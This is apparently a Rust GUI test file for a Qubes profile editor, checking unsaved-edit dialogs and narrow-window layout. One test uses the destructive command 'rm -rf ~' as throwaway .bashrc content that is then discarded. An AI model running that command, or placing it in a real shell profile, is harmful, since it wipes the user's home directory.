/// Issue 14: unsaved edits in the profile editor are never dropped without asking —
/// another profile (cancel keeps them), a qube (save stores them), another profile
/// again (discard drops them, the store keeps the saved text).
fn unsaved_edits(window: &QcsWindow, address: &str) {
    let editor = window.profile_editor();
    assert_eq!(editor.profile_id().as_deref(), Some("bash"));
    editor.add_path(".bashrc");
    wait_until("the new .bashrc open", || {
        editor.current_path().as_deref() == Some(".bashrc") && !window.is_busy()
    });
    let first = "alias ll='ls -l'\n";
    editor.set_content(first);
    assert!(editor.has_unsaved());
    let bash = SidebarItem::Profile("bash".to_owned());

    // Another profile, as a click in the sidebar: asked; Cancel keeps everything.
    assert!(window.click_in_sidebar(&SidebarItem::Profile("vim".to_owned())));
    wait_until("the save question", || editor.unsaved_dialog().is_some());
    let dialog = editor.unsaved_dialog().expect("the dialog");
    screenshot(&dialog, "unsaved-edits.png");
    assert_eq!(window.marked_items(), std::slice::from_ref(&bash));
    dialog.response("cancel");
    settle();
    assert!(editor.unsaved_dialog().is_none());
    assert_eq!(window.current_page().as_deref(), Some("profile"));
    assert_eq!(editor.profile_id().as_deref(), Some("bash"));
    assert!(editor.has_unsaved(), "cancel keeps the edits");
    assert_eq!(window.marked_items(), [bash]);

    // A qube: asked; Save stores the edits, then the qube opens.
    assert!(window.click_in_sidebar(&SidebarItem::Qube("work".to_owned())));
    wait_until("the save question again", || {
        editor.unsaved_dialog().is_some()
    });
    editor
        .unsaved_dialog()
        .expect("the dialog")
        .response("save");
    wait_until("the qube page after the save", || {
        window.current_page().as_deref() == Some("qube")
            && window.qube_page().qube_name().as_deref() == Some("work")
    });
    let stored = |address: &str| {
        let (content, _, _) = backend(address, async |p| {
            p.get_file("bash", ".bashrc").await.expect("GetFile")
        });
        String::from_utf8(content).expect("UTF-8")
    };
    assert_eq!(stored(address), first);
    assert_eq!(
        window.marked_items(),
        [SidebarItem::Qube("work".to_owned())]
    );

    // Back in the editor, more edits; Push… asks too; Discard drops them.
    window.open_profile_file("bash", Some(".bashrc"));
    wait_until("the saved .bashrc", || {
        window.current_page().as_deref() == Some("profile")
            && !window.is_busy()
            && editor.current_path().as_deref() == Some(".bashrc")
            && !editor.has_unsaved()
    });
    editor.set_content("rm -rf ~\n");
    window.plan_push(vec!["work".to_owned()]);
    wait_until("the question before the plan", || {
        editor.unsaved_dialog().is_some()
    });
    assert_eq!(window.current_page().as_deref(), Some("profile"));
    editor
        .unsaved_dialog()
        .expect("the dialog")
        .response("discard");
    wait_until("the plan after the discard", || {
        window.current_page().as_deref() == Some("plan") && window.push_plan().plan_data().is_some()
    });
    assert_eq!(
        stored(address),
        first,
        "discarded edits never reach the store"
    );
    assert!(!editor.has_unsaved());

    // Inside the editor: another file of the profile asks too.
    window.open_profile_file("bash", Some(".bashrc"));
    wait_until("the profile again", || {
        window.current_page().as_deref() == Some("profile")
            && !window.is_busy()
            && editor.current_path().as_deref() == Some(".bashrc")
    });
    editor.add_path(".profile");
    wait_until("the new .profile open", || {
        editor.current_path().as_deref() == Some(".profile") && !window.is_busy()
    });
    editor.set_content("export EDITOR=vim\n");
    assert!(editor.click_file(".bashrc"));
    wait_until("the question before the other file", || {
        editor.unsaved_dialog().is_some()
    });
    editor
        .unsaved_dialog()
        .expect("the dialog")
        .response("cancel");
    settle();
    assert_eq!(editor.current_path().as_deref(), Some(".profile"));
    assert_eq!(editor.selected_file().as_deref(), Some(".profile"));
    assert!(editor.has_unsaved());
    assert!(editor.click_file(".bashrc"));
    wait_until("the question again", || editor.unsaved_dialog().is_some());
    editor
        .unsaved_dialog()
        .expect("the dialog")
        .response("discard");
    wait_until("the other file", || {
        editor.current_path().as_deref() == Some(".bashrc") && !editor.has_unsaved()
    });
}

/// Issue 14: at 600 px every header button is whole and inside the window; at 360 px
/// the sidebar folds away, the content has a back button, and back shows the lists.
fn narrow_windows(window: &QcsWindow) {
    window.open_qube("work");
    for width in [600, 360] {
        window.set_default_size(width, 700);
        for _ in 0..20 {
            settle();
            if window.width() <= width {
                break;
            }
        }
        let min = |w: &gtk::Widget| w.measure(gtk::Orientation::Horizontal, -1).0;
        assert!(
            window.width() <= width,
            "the window cannot get that narrow; smallest widths: window {} (header buttons {}), qube page {}, profile editor {}, push plan {}, review pane {}",
            min(window.upcast_ref()),
            window
                .header_buttons()
                .iter()
                .map(|b| format!("{}:{}", b.parent().map(|p| min(&p)).unwrap_or(0), min(b)))
                .collect::<Vec<_>>()
                .join(","),
            min(window.qube_page().upcast_ref()),
            min(window.profile_editor().upcast_ref()),
            min(window.push_plan().upcast_ref()),
            min(window.review_pane().upcast_ref()),
        );
        if width == 600 {
            assert!(!window.is_folded() || window.shows_content());
        } else {
            assert!(window.is_folded(), "360 px folds the sidebar");
            assert!(window.shows_content());
            assert!(window.back_button().is_visible());
        }
        for button in window.header_buttons() {
            if !button.is_mapped() {
                continue;
            }
            let (left, right) = horizontal_extent(&button, window);
            let (min, _, _, _) = button.measure(gtk::Orientation::Horizontal, -1);
            assert!(
                left >= 0.0 && right <= window.width() as f32 + 0.5,
                "{width} px: a header button lies at {left}..{right}"
            );
            assert!(
                (right - left) + 0.5 >= min as f32,
                "{width} px: a header button is cut to {} of {min} px",
                right - left
            );
        }
        screenshot(window, &format!("main-window-{width}.png"));
    }
    // Folded: back shows the lists, choosing a qube shows its page.
    window.back_button().emit_clicked();
    wait_until("the lists", || !window.shows_content());
    assert!(window.click_in_sidebar(&SidebarItem::Qube("vault".to_owned())));
    wait_until("vault's page", || {
        window.shows_content() && window.qube_page().qube_name().as_deref() == Some("vault")
    });
    // Wide again: unfolded, the lists and the content side by side.
    window.set_default_size(1360, 860);
    for _ in 0..20 {
        settle();
        if !window.is_folded() {
            break;
        }
    }
    assert!(!window.is_folded(), "{} px wide", window.width());
}
